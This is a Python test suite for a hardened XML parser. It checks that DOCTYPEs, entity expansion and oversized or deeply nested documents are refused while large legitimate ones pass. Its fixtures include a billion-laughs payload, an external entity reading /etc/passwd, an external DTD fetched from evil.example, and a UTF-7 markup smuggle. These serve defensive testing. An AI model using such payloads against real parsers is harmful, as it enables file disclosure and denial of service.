"""The XML door: hostile documents named after their threat are refused, large honest ones pass."""

import contextlib
import resource

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.errors import QuaestorError
from shared.xml.parse import BrokenXml, DoctypeRefused, XmlLimits, XmlTooLarge, parse

BILLION_LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l "ha">
<!ENTITY l1 "&l;&l;&l;&l;&l;&l;&l;&l;"><!ENTITY l2 "&l1;&l1;&l1;&l1;">]><a>&l2;</a>"""
EXTERNAL_ENTITY = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
EXTERNAL_SUBSET = b'<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>'
BARE_DOCTYPE = b"<!DOCTYPE a><a/>"
AFTER_A_LONG_COMMENT = b"<!--" + b"x" * 20_000 + b"--><!DOCTYPE a><a/>"


@pytest.mark.parametrize(
    "document",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_SUBSET, BARE_DOCTYPE, AFTER_A_LONG_COMMENT],
    ids=["billion laughs", "external entity", "external subset", "bare", "after a long comment"],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-be", "iso-8859-1"])
def test_any_doctype_is_refused_in_any_encoding(document: bytes, encoding: str) -> None:
    text = document.decode().replace('<?xml version="1.0"?>', "")
    mark = b"\xfe\xff" if encoding == "utf-16-be" else b""
    declared = f'<?xml version="1.0" encoding="{encoding.removesuffix("-be")}"?>'
    with pytest.raises(DoctypeRefused):
        parse(mark + (declared + text).encode(encoding))


def test_an_encoding_that_hides_markup_is_refused() -> None:
    hidden = b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-<a/>'
    with pytest.raises(QuaestorError):
        parse(hidden)


@pytest.mark.parametrize(
    "document",
    [b"", b"   ", b"not xml", b"<a><b></a>", b"<a>", b"<a/><b/>", b"<a>\x00</a>", b"%PDF-1.7"],
)
def test_what_is_not_well_formed_names_the_line(document: bytes) -> None:
    with pytest.raises(BrokenXml) as refused:
        parse(document)
    assert int(str(refused.value.facts["line"])) >= 1


def test_nesting_is_bounded() -> None:
    assert parse(b"<a>" * 256 + b"</a>" * 256) is not None
    with pytest.raises(XmlTooLarge):
        parse(b"<a>" * 257 + b"</a>" * 257)


def test_nesting_is_bounded_in_a_huge_document_too() -> None:
    filler = b"<b>" + b"x" * 10_000_000 + b"</b>"
    assert parse(b"<a>" * 255 + filler + b"</a>" * 255) is not None
    with pytest.raises(XmlTooLarge, match="levels"):
        parse(b"<a>" * 257 + filler + b"</a>" * 257)


def test_nesting_may_be_bounded_more_narrowly() -> None:
    with pytest.raises(XmlTooLarge):
        parse(b"<a>" * 11 + b"</a>" * 11, XmlLimits(depth=10))


def test_nesting_beyond_the_parser_is_refused_too() -> None:
    with pytest.raises(QuaestorError):
        parse(b"<a>" * 100_000 + b"</a>" * 100_000)


def test_attributes_of_one_element_are_bounded() -> None:
    many = " ".join(f'a{n}="1"' for n in range(200_000)).encode()
    with pytest.raises(XmlTooLarge):
        parse(b"<a " + many + b"/>")


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_letters_that_look_like_markup_in_utf_16_hide_no_attributes(encoding: str) -> None:
    """One byte of U+013C is that of `<`. The tag never ends: it is refused unread."""
    many = " ".join(f'a{n}="\u013c"' for n in range(50_000))
    mark = "" if encoding == "utf-16" else "\ufeff"
    with pytest.raises(XmlTooLarge, match="attributes"):
        parse(f"{mark}<a {many}".encode(encoding))


@pytest.mark.parametrize("blanks", [0, 1, 4_000, 5_000, 9_999, 10_000])
def test_attributes_are_counted_wherever_their_tag_begins(blanks: int) -> None:
    names = [f'a{n}=""' for n in range(1_001)]
    before = b"<r>" + b" " * blanks
    with pytest.raises(XmlTooLarge, match="attributes"):
        parse(before + b"<a " + " ".join(names).encode() + b"/></r>")
    assert parse(before + b"<a " + " ".join(names[1:]).encode() + b"/></r>") is not None


@pytest.mark.parametrize("encoding", ["iso-8859-1", "utf-16", "utf-8"])
def test_a_text_that_grows_in_the_reader_passes(encoding: str) -> None:
    text = f'<?xml version="1.0" encoding="{encoding}"?><a>{"é" * 5_500_000}</a>'
    assert len(parse(text.encode(encoding)).text or "") == 5_500_000


def test_elements_are_bounded() -> None:
    with pytest.raises(XmlTooLarge):
        parse(b"<a>" + b"<b/>" * 101 + b"</a>", XmlLimits(elements=100))


def test_size_is_bounded_before_anything_is_read() -> None:
    with pytest.raises(XmlTooLarge):
        parse(b"x" * 101, XmlLimits(size=100))


def test_a_large_embedded_attachment_passes() -> None:
    """libxml2 alone refuses a text of more than ten megabytes."""
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    root = parse(b"<a>" + b"QUJD" * 5_000_000 + b"</a>")
    assert len(root.text or "") == 20_000_000
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 200_000


@given(st.binary(max_size=300))
def test_no_bytes_make_the_door_fail_in_another_way(data: bytes) -> None:
    with contextlib.suppress(QuaestorError):
        parse(data)


@given(st.text(alphabet="<>!ENTYDOCP[]&;/a \"'=?-x", max_size=60))
def test_no_markup_gets_a_doctype_through(text: str) -> None:
    try:
        root = parse(text.encode())
    except QuaestorError:
        return
    assert root.getroottree().docinfo.internalDTD is None


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-be"])
@pytest.mark.parametrize("kind", ["a{n}='1'", "xmlns:n{n}='urn:{n}'", 'xmlns:n{n} =\n"u>{n}"'])
def test_attributes_and_namespaces_without_end_are_refused_before_they_are_compared(
    kind: str, encoding: str
) -> None:
    many = " ".join(kind.format(n=n) for n in range(1_000_000))
    document = f'<?xml version="1.0" encoding="{encoding}"?><a {many}/>'.encode(encoding)
    with pytest.raises(XmlTooLarge, match="attributes"):
        parse(document)


def test_a_long_text_full_of_equals_signs_passes() -> None:
    text = "a = b; c == d; " * 20_000 + "x='1' " * 900
    assert parse(f"<a>{text}</a>".encode()).text == text
